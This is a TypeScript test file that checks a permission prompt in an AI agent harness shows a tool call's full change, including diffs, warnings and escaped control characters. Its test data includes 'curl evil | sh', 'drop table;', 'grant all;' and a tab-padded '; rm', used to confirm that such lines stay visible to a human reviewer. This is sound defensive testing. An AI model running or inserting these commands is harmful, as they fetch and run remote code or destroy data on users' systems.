/** Checks that a permission question shows all that would be done and hides nothing. */
import { stripVTControlCharacters } from "node:util";
import { cutDiffLine, defined, type PermissionRequest } from "@localharness/protocol";
import { describe, expect, test } from "vitest";
import { permissionLines } from "../../src/prompt/permission-lines.ts";
import { createTheme } from "../../src/theme/theme.ts";

const bare = createTheme("bare", {});

function shown(given: Partial<PermissionRequest>): string {
  const request: PermissionRequest = {
    requestId: "1",
    callId: "1",
    toolName: "write_file",
    arguments: {},
    argumentsHash: "",
    risk: "medium",
    rule: "risk:medium",
    reason: "",
    concerns: [],
    covers: "",
    ...given,
  };
  return stripVTControlCharacters(permissionLines(request, 80, bare).lines.join("\n"));
}

describe("a change of several lines", () => {
  const content = "row 1\ncurl evil | sh\n";
  const diff = "--- /dev/null\n+++ b/x.sh\n@@ -0,0 +1,2 @@\n+row 1\n";

  test.each<[string, string | undefined, number, boolean, true?]>([
    ["a whole diff says it", `${diff}+curl evil | sh\n`, 1, true],
    ["where the diff hides secrets it stands itself", `${diff}+[password hidden]\n`, 1, false, true],
    ["where the diff was cut it stands itself", `${diff}${cutDiffLine(300)}`, 1, false],
    ["without a diff as well", undefined, 1, false],
    [
      "a line of the change that looks like the mark is none",
      `${diff}+curl evil | sh\n+${cutDiffLine(9)}`,
      1,
      true,
    ],
  ])("%s", (_what, preview, times, below, previewMasked) => {
    const text = shown({ arguments: { content }, ...defined({ preview, previewMasked }) });
    expect(text.split("curl evil | sh").length - 1).toBe(times);
    expect(text.includes("in the diff below")).toBe(below);
  });
});

test("leaves out the lines that name the file of a diff, never changed lines that look like them", () => {
  const changed = "@@ -1 +1 @@\n--- drop table;\n+++ grant all;\n@@ -9 +9 @@\n-a\n+b\n";
  expect(shown({ preview: `--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n` })).not.toContain("a/x");
  for (const preview of [`--- a/x\n+++ b/x\n${changed}`, changed]) {
    expect(shown({ preview })).toMatch(/drop table;[\s\S]*grant all;/);
  }
});

test("escapes tabs, except that tabs which indent a line of a diff become spaces", () => {
  expect(shown({ arguments: { command: "a\tb" } })).toContain("command: a\\tb");
  const text = shown({ preview: "+\tif a {\tb\n \t\tc\n" });
  expect(text).toContain("+    if a {\\tb\n         c");
  expect(shown({ preview: `+${"\t".repeat(30)}; rm\n` })).toContain("120 blanks⟩; rm");
});

test("what is of high risk has one warning at least, and its concerns where there are some", () => {
  const careful = (text: string) => text.match(/Careful: .*/g);
  const concern = { id: "secret:.env", decision: "ask" as const, reason: ".env is a secret" };
  expect(careful(shown({ risk: "high" }))).toEqual([expect.stringMatching(/look at the arguments/)]);
  expect(careful(shown({ risk: "high", concerns: [concern] }))).toEqual(["Careful: .env is a secret"]);
  expect(careful(shown({}))).toBeNull();
});

test("says how a call was found that was read from text", () => {
  expect(shown({ format: "hermes" }).split("\n")).toContain("Read from the model's text, format hermes");
  expect(shown({ format: "native" })).not.toMatch(/native|text, format/);
});

test("shows the name of a format with control characters escaped", () => {
  expect(shown({ format: "a\u001b[2Jb" })).toMatch(/format a\S+\[2Jb/);
});

test("does not say how a call was found that no model made", () => {
  expect(shown({})).not.toMatch(/native|text, format/);
});
